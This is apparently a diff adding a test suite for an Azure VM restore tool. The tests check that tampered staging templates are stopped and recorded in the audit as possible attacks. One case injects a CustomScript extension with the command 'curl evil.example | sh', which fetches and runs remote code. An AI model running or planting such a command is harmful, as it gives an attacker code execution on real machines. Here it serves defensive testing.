@@ -1,0 +1,170 @@
+import assert from 'node:assert/strict';
+import { after, afterEach, before, describe, it } from 'node:test';
+import { resourceId } from '../../sandbox/world/arm-id.ts';
+import { prod } from '../../sandbox/world/places.ts';
+import { over, type Saga, startSaga } from './saga.ts';
+import { attackStaging, type Staged } from './staging-attack.ts';
+
+let saga: Saga;
+let hook: Saga['talk']['sandbox']['azure']['tap'];
+before(async () => {
+  saga = await startSaga();
+  hook = saga.talk.sandbox.azure.tap;
+});
+after(() => saga?.close());
+afterEach(() => {
+  saga.talk.sandbox.azure.tap = hook;
+});
+
+const vmOf = ({ template }: Staged) => template.resources.at(-1) ?? assert.fail('no machine');
+const nicOf = ({ template }: Staged) => template.resources[0] ?? assert.fail('no interface');
+const payroll = resourceId(prod.id, 'rg-app', 'Microsoft.Compute/disks', 'payroll-osdisk');
+let count = 0;
+
+/** A restore whose files are changed under way. @returns the card at its end, and what stands in the audit about it */
+async function attacked(change: (staged: Staged) => void | Promise<void>, vm = 'app-01') {
+  const copy = `${vm}-a${++count}`;
+  const request = await saga.asked(`${vm} latest as ${copy} isolated`);
+  const isDone = attackStaging(saga, change);
+  await saga.approve(request);
+  const end = await saga.until(request.card, over);
+  assert.ok(isDone(), 'the files were changed before they were read');
+  return { ...request, copy, all: end.all };
+}
+
+async function stopped(found: RegExp, change: (staged: Staged) => void | Promise<void>) {
+  const { all, id, copy } = await attacked(change);
+  assert.match(all, /✗ Failed/);
+  assert.match(all, /possible attack/);
+  assert.match(all, found);
+  assert.equal(saga.machine(copy), undefined);
+  const deployed = await saga.effects(new RegExp(`deployment strongroom-${id}-`));
+  assert.deepEqual(deployed, [], 'nothing was deployed');
+}
+
+describe('a template that somebody with a key of the staging account wrote anew stops the step', () => {
+  it('one more network interface', () =>
+    stopped(/networkInterfaces extra/, ({ template }) => {
+      template.resources.push({ ...nicOf({ template } as Staged), name: 'extra' });
+    }));
+
+  it('an extension that runs a script', () =>
+    stopped(/virtualMachines\/extensions/, ({ template }) => {
+      const settings = { commandToExecute: 'curl evil.example | sh' };
+      const properties = { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript', settings };
+      const name = "[concat(parameters('VirtualMachineName'), '/evil')]";
+      const type = 'Microsoft.Compute/virtualMachines/extensions';
+      template.resources.push({ type, apiVersion: '2023-03-01', name, location: 'westeurope', properties });
+    }));
+
+  it('a nested deployment, in whatever group', () =>
+    stopped(/Microsoft\.Resources\/deployments/, ({ template }) => {
+      const properties = { mode: 'Complete', template: { resources: [] } };
+      const type = 'Microsoft.Resources/deployments';
+      template.resources.push({ type, apiVersion: '2021-04-01', name: 'nested', resourceGroup: 'rg-app', properties });
+    }));
+
+  it('a secret of a key vault as a parameter', () =>
+    stopped(/parameters\/Secret/, ({ template }) => {
+      const keyVault = { id: resourceId(prod.id, 'rg-app', 'Microsoft.KeyVault/vaults', 'kv-prod') };
+      template.parameters.Secret = { type: 'securestring', reference: { keyVault, secretName: 'bek' } };
+    }));
+
+  it('outputs', () =>
+    stopped(/outputs/, ({ template }) => {
+      template.outputs = { shown: { type: 'string', value: "[parameters('OSDiskName')]" } };
+    }));
+
+  it('an identity of somebody else', () =>
+    stopped(/virtualMachines\/identity/, (staged) => {
+      const id = resourceId(prod.id, 'rg-app', 'Microsoft.ManagedIdentity/userAssignedIdentities', 'owner');
+      vmOf(staged).identity = { type: 'UserAssigned', userAssignedIdentities: { [id]: {} } };
+    }));
+
+  it('custom data', () =>
+    stopped(/osProfile/, (staged) => {
+      vmOf(staged).properties.osProfile = {
+        computerName: 'x',
+        customData: Buffer.from('#!/bin/sh').toString('base64'),
+      };
+    }));
+
+  it('another disk', () =>
+    stopped(/osDisk\/managedDisk\/id/, (staged) => {
+      const { osDisk } = vmOf(staged).properties.storageProfile as { osDisk: { managedDisk: { id: string } } };
+      osDisk.managedDisk.id = payroll;
+    }));
+
+  it('another network', () =>
+    stopped(/subnet\/id/, (staged) => {
+      const [first] = nicOf(staged).properties.ipConfigurations as { properties: { subnet: { id: string } } }[];
+      assert.ok(first);
+      first.properties.subnet.id = `${resourceId(prod.id, 'rg-app', 'Microsoft.Network/virtualNetworks', 'vnet-app')}/subnets/app`;
+    }));
+});
+
+describe('disks that are not those of the restore stop the step', () => {
+  it('the config names the disk of another machine', () =>
+    stopped(/payroll-osdisk/, ({ config }) => {
+      config['properties.storageProfile'].osDisk.managedDisk.id = payroll;
+    }));
+
+  it('a second disk that fits, with the tag of the job', () =>
+    stopped(/osdisk-\S+ too many/, ({ config, jobId }) => {
+      const { osDisk } = config['properties.storageProfile'];
+      const disk = saga.world.resources.get(osDisk.managedDisk.id) ?? assert.fail('no disk');
+      const id = osDisk.managedDisk.id.replace(/[^/]+$/, 'fits');
+      saga.world.resources.put({ ...structuredClone(disk), id, name: 'fits', tags: { RSVaultBackup: jobId } });
+      osDisk.managedDisk.id = id;
+    }));
+
+  it('one that was there before', () =>
+    stopped(/is older than the restore/, ({ config }) => {
+      const { osDisk } = config['properties.storageProfile'];
+      const disk = saga.world.resources.get(osDisk.managedDisk.id) ?? assert.fail('no disk');
+      disk.properties.timeCreated = new Date(saga.world.clock.now().getTime() - 86_400_000).toISOString();
+    }));
+});
+
+describe('what is only unknown is put to people, and never dropped', () => {
+  it('a property that Microsoft may have added', async () => {
+    const { all, copy } = await attacked((staged) => {
+      vmOf(staged).properties.additionalCapabilities = { ultraSSDEnabled: true };
+    });
+    assert.doesNotMatch(all, /possible attack/);
+    assert.match(all, /virtualMachines\/properties\/additionalCapabilities/);
+    assert.equal(saga.machine(copy), undefined);
+  });
+
+  it('a disk without the tag of its job', async () => {
+    const { all, copy } = await attacked(({ config }) => {
+      const { osDisk } = config['properties.storageProfile'];
+      const disk = saga.world.resources.get(osDisk.managedDisk.id) ?? assert.fail('no disk');
+      disk.tags = {};
+    });
+    assert.doesNotMatch(all, /possible attack/);
+    assert.match(all, /tags\/RSVaultBackup/);
+    assert.equal(saga.machine(copy), undefined);
+  });
+});
+
+it('what was found stands in the audit', async () => {
+  const { id } = await attacked(({ template }) => {
+    template.outputs = { shown: { type: 'string', value: 'x' } };
+  });
+  const said = await saga.talk.ask('platform', 'personal-platform', `audit ${id}`, /failed/);
+  assert.match(said.all, /outputs/);
+});
+
+it('market-01, of an image of the Marketplace, is made with its plan and accelerated networking', async () => {
+  const request = await saga.asked('market-01 latest as market-copy isolated');
+  await saga.approve(request);
+  assert.match((await saga.until(request.card, over)).all, /✓ Done/);
+  assert.deepEqual(saga.machine('market-copy')?.plan, {
+    name: 'byol',
+    publisher: 'contoso-appliances',
+    product: 'gateway',
+  });
+  const nic = `${saga.target.targetResourceGroupId}/providers/Microsoft.Network/networkInterfaces/market-copy-nic`;
+  assert.equal(saga.world.resources.get(nic)?.properties.enableAcceleratedNetworking, true);
+});
